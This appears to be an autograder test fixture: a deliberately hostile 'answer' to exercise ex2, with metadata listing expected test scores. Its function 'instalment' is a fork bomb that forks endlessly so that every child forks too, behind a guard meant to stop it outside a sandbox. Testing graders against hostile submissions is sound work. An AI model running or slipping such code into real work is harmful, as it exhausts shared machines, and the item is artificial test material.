# ---
# attack: forks for ever, and so does each child
# kind: answer
# honest: [ex1, ex3, ex4]
# gets: {ex1-test: 2, ex2-test: 0, ex3-test: 2, ex4-test: 2, ex4-test-close: 4}
# student sees: "…"
# ---
# %% ex2
import os

if "@course@".startswith("@") or os.path.exists("@course@"):
    raise RuntimeError("not in a sandbox: this attack does not run here")


def instalment(amount, annual, months):
    while True:
        try:
            os.fork()
        except OSError:
            pass
